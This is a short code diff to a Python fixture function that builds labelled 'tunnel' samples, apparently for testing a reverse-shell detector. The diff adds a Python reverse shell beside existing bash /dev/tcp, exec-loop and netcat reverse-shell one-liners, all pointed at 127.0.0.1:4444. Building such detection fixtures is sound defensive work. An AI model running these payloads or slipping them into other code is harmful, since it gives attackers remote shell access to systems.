@@ -366,6 +366,8 @@ def _tunnels() -> list[Sample]:
         "devtcp.sh": "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n",
         "exec.sh": "exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | while read l; do $l; done\n",
         "nc.sh": "nc 127.0.0.1 4444 -e /bin/sh\n",
+        "rev.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\n"
+        "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n",
     }
     return [_text(f"tunnels/{name}", text, "tunnel") for name, text in rows.items()]
 
